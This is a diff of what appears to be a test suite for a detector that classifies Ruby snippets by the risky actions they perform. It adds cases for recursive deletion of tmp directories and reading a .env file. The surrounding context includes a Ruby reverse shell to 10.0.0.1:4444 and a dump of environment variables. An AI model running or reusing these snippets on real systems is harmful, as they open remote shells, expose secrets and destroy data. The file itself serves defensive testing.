@@ -31,6 +31,11 @@ describe("what is caught", () => {
       "read .env shows",
       "connect http://h change sends[.env body] checked",
     ],
+    "dirs = Dir.glob('tmp/*').select { |d| d > 3 }\ndirs.each do |dir|\n  FileUtils.rm_rf(dir)\nend": [
+      "delete tmp/* recursive",
+    ],
+    'Dir.chdir("/tmp") { File.delete("a") }': ["delete /tmp/a"],
+    'File.foreach(".env") { |l| puts l }': ["read .env shows"],
     "p ENV.to_h": ["reveal what(* environment body)"],
     'require "socket";c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end': [
       "connect tcp://10.0.0.1:4444 tunnel checked",
